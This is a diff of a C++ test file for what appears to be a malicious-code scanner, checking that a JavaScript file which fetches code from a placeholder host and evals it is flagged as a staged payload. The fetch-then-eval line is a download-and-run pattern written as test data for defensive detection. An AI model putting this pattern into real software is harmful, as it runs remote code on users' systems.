@@ -100,10 +100,12 @@ TEST_CASE("a fetch and an eval in unrelated modules are no download-and-run", "[
     CHECK(a.risk < Risk::high);
   }
   SECTION("fetch then eval of the body") {
-    auto a = run({{"lib/update.js", filler(4000) +
-                                        "fetch(process.argv[2]).then((r) => r.text()).then((t) "
-                                        "=> eval(t));\n" +
-                                        filler(4000)}});
+    auto a =
+        run({{"lib/update.js", filler(4000) +
+                                   "fetch('https://updates.example.invalid/next.js').then((r) => "
+                                   "r.text()).then((t) "
+                                   "=> eval(t));\n" +
+                                   filler(4000)}});
     CHECK(has(a.threats, "staged-payload"));
     CHECK(a.risk >= Risk::high);
   }
